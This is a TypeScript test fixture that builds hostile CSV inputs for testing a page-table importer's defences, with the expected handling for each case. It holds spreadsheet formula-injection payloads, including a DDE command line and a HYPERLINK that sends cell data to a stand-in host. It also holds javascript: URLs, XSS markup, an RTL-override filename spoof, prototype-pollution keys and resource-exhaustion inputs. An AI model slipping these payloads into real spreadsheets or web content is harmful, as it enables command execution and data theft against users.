import { wordsOf } from '../words.ts';
import { type HostileFile, hostile, megabytesOf } from './hostile-file.ts';

const { columns } = await wordsOf('en');
const { number, title, address, note, labels, quotes, taggedOn, activityDate, status } = columns;
const HEAD = [number, title, address, note].join(';');
const ROW = '1;Water;https://school.example/a;Why';
const GOOD = `${HEAD}\r\n${ROW}\r\n`;

/** A table with one row that has this cell, as it is in the file, for its title. */
function titled(cell: string): string {
  return `${HEAD}\n1;${cell};https://school.example/a;Why`;
}

function addressed(cell: string): string {
  return `${HEAD}\n1;Water;${cell};Why`;
}

function withColumn(name: string, cell: string): string {
  return `${number};${address};${name}\n1;https://school.example/a;${cell}`;
}

const FORMULAS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '＝1',
  "'=1+1",
  "''=1",
  '"=HYPERLINK(""https://a.example/?""&A1)"',
  '%0A=1',
  '=IMPORTXML("https://a.example/")',
].map((cell) => hostile(`CSV with the formula ${JSON.stringify(cell)}`, 'harmless', titled(cell)));

const ADDRESSES = [
  'javascript:alert(1)',
  ' javascript:alert(1)',
  'data:text/html,x',
  'file:///c:/',
  'school',
  '//a.example',
  '=HYPERLINK("https://a.example/")',
  'urn:uuid:1',
  '',
].map((cell) => hostile(`CSV with the address ${JSON.stringify(cell)}`, 'bad-rows', addressed(cell)));

const DAYS: readonly (readonly [day: string, becomes: HostileFile['becomes']])[] = [
  ['2026-02-31', 'bad-rows'],
  ['2026-02-29', 'bad-rows'],
  ['2026-13-01', 'bad-rows'],
  ['29.02.2026', 'bad-rows'],
  ['13/13/2026', 'bad-rows'],
  ['00/00/0000', 'bad-rows'],
  ['999999', 'bad-rows'],
  ['-46000', 'bad-rows'],
  ['1e5', 'bad-rows'],
  ['=TODAY()', 'bad-rows'],
  // As spreadsheets of some countries write it, and as they count days.
  ['31.12.2026', 'harmless'],
  ['12/31/2026', 'harmless'],
  ['46000', 'harmless'],
];
const DATES = DAYS.flatMap(([day, becomes]) =>
  [taggedOn, activityDate].map((name) =>
    hostile(`CSV with ${day} as “${name}”`, becomes, withColumn(name, day)),
  ),
);

const CASES: readonly [
  name: string,
  becomes: HostileFile['becomes'],
  content: string | Uint8Array | (() => string),
][] = [
  ['a quotation mark that never closes', 'bad-rows', titled('"Water')],
  ['a quotation mark in the middle', 'harmless', titled('Wa"ter')],
  ['quotation marks that do not match', 'bad-rows', `${HEAD}\n1;"a";"b;"";c`],
  ['text after a closing quotation mark', 'harmless', titled('"Water"x')],
  ['separators mixed', 'bad-rows', `${HEAD}\n1,Water,https://school.example/a,Why`],
  ['commas for semicolons in the head', 'unknown-kind', `a,b,c,d\n${ROW}`],
  ['a line for the separator', 'harmless', `sep=;\n${GOOD}`],
  ['no head', 'unknown-kind', ROW],
  ['another head', 'unknown-kind', `a;b;c;d\n${ROW}`],
  ['half a head', 'unknown-kind', `${number};${title}\n1;Water`],
  ['a column twice', 'harmless', `${HEAD};${address}\n${ROW};javascript:alert(1)`],
  ['the head twice', 'harmless', `${HEAD}\n${HEAD}\n${ROW}`],
  ['names that could reach a prototype', 'unknown-kind', `__proto__;constructor\n1;2`],
  ['a column named __proto__', 'harmless', `${HEAD};__proto__\n${ROW};{"polluted":1}`],
  [
    'a domain named __proto__',
    'bad-rows',
    `${columns.domain};${address}\n__proto__;https://school.example/a`,
  ],
  ['a sixth domain', 'bad-rows', `${HEAD}\n6;Water;https://school.example/a;Why`],
  ['a domain of zero', 'bad-rows', `${HEAD}\n0;Water;https://school.example/a;Why`],
  ['one and a half domains', 'bad-rows', `${HEAD}\n1.5;Water;https://school.example/a;Why`],
  ['a domain in other digits', 'bad-rows', `${HEAD}\n١;Water;https://school.example/a;Why`],
  ['a row too short', 'bad-rows', `${HEAD}\n1`],
  ['a row too long', 'harmless', `${GOOD}2;x;https://school.example/b;y${';z'.repeat(1_000)}`],
  ['a thousand empty rows', 'harmless', `${GOOD}${';;;\r\n'.repeat(1_000)}`],
  ['line ends of all kinds', 'harmless', `${HEAD}\r\n${ROW}\r\n`],
  ['line ends of old Macs', 'harmless', GOOD.replaceAll('\r\n', '\r')],
  ['line ends in a cell', 'harmless', titled('"a\r\nb\rc\nd"')],
  ['a NUL', 'harmless', titled('Wa\u0000ter')],
  ['control characters', 'harmless', titled('\u0001\u001b[31m\u009b')],
  ['text that turns round', 'harmless', titled('\u202Egpj.exe\u2066')],
  ['markup', 'harmless', titled('<img src=x onerror=alert(1)>')],
  ['a byte order mark', 'harmless', `\uFEFF${GOOD}`],
  ['a byte order mark before the row', 'bad-rows', `${HEAD}\n\uFEFF6;x;y;z`],
  [
    'UTF-16 as a spreadsheet writes it',
    'harmless',
    Buffer.from(`\uFEFF${GOOD.replaceAll(';', '\t')}`, 'utf16le'),
  ],
  ['Windows-1250', 'harmless', Buffer.from(titled('£ód\x9f'), 'latin1')],
  ['Windows-1250 that is no table', 'not-text', Buffer.from('a;b\n£ód\x9f', 'latin1')],
  ['half of UTF-16', 'not-text', Buffer.from(`\uFEFF${GOOD}`, 'utf16le').subarray(0, -1)],
  ['UTF-16 that is no table', 'not-text', Buffer.from('\uFEFFa;b', 'utf16le')],
  ['a quoted cell full of quotation marks', 'bad-rows', () => titled(`"${megabytesOf('"x', 31)} `)],
  ['a quoted cell full of doubled ones', 'bad-rows', () => titled(`"${megabytesOf('""', 31)}"`)],
  ['apostrophes before a sign without end', 'bad-rows', () => titled(`${megabytesOf("'", 31)}=`)],
  ['separators and spaces before no sign', 'bad-rows', () => titled(`"${megabytesOf(', ', 31)}x"`)],
  ['an id that cannot be decoded', 'harmless', withColumn(columns.id, 'page-0123456789abcdef %')],
  [
    'an id of a megabyte',
    'bad-rows',
    () => withColumn(columns.id, `page-0123456789abcdef ${megabytesOf('a ', 1)}`),
  ],
  ['a colleague with the number 999', 'harmless', withColumn(`${note} (999)`, 'Why')],
  ['a total below', 'harmless', `${GOOD}Total: 1;;;\r\n`],
  ['labels that never close', 'harmless', withColumn(labels, '"""a;b"')],
  ['a title too long', 'bad-rows', titled('a'.repeat(1_001))],
  ['a cell of a megabyte', 'bad-rows', () => titled(megabytesOf('a', 1))],
  ['a note of a megabyte', 'bad-rows', () => withColumn(note, megabytesOf('a', 1))],
  ['too many labels', 'bad-rows', withColumn(labels, `"${'a;'.repeat(21)}"`)],
  [
    'too many quotes',
    'bad-rows',
    withColumn(quotes, `"${Array.from({ length: 21 }, (_, n) => n).join('\n\n')}"`),
  ],
  ['a status that there is not', 'bad-rows', withColumn(status, 'perhaps')],
  ['31 MB of quotation marks', 'unknown-kind', () => megabytesOf('"', 31)],
  ['31 MB of separators', 'unknown-kind', () => megabytesOf(';', 31)],
  [
    '31 MB of separators in a row',
    'harmless',
    () => `${GOOD}2;x;https://school.example/b;y${megabytesOf(';', 31)}`,
  ],
  ['31 MB of empty lines', 'harmless', () => `${GOOD}${megabytesOf('\n', 31)}`],
  ['31 MB of rows that say nothing', 'harmless', () => `${GOOD}${megabytesOf(';\n', 31)}`],
  ['31 MB in one cell that never ends', 'bad-rows', () => titled(`"${megabytesOf('a\n', 31)}`)],
  ['31 MB of quotes in a cell', 'bad-rows', () => withColumn(quotes, `"${megabytesOf('a\n\n', 31)}"`)],
  [
    '31 MB of white space before a quote',
    'bad-rows',
    () => withColumn(quotes, `"a${megabytesOf('\n', 31)}b"`),
  ],
  ['31 MB of spaces in a title', 'bad-rows', () => titled(`a${megabytesOf(' ', 31)}=`)],
  ['31 MB of spaces before a sign', 'bad-rows', () => titled(`'${megabytesOf(' ', 31)}x`)],
  ['31 MB of labels', 'bad-rows', () => withColumn(labels, `"${megabytesOf('a;', 31)}"`)],
  ['a head of 31 MB', 'harmless', () => GOOD.replace('\r\n', `${megabytesOf(';x', 31)}\r\n`)],
  ['rows without end', 'too-many', () => `${HEAD}\n${`${ROW}\n`.repeat(100_001)}`],
  ['one page without end', 'repeated-page', () => `${HEAD}\n${`${ROW}\n`.repeat(100_000)}`],
  [
    'thirty thousand pages',
    'harmless',
    () =>
      `${HEAD}\n${Array.from({ length: 30_000 }, (_, n) => `1;x;https://school.example/${n};y`).join('\n')}`,
  ],
];

/** Tables that are wrong, too large or made to harm. */
export const HOSTILE_CSV: readonly HostileFile[] = [
  ...FORMULAS,
  ...ADDRESSES,
  ...DATES,
  ...CASES.map(([name, becomes, content]) => hostile(`CSV with ${name}`, becomes, content)),
];
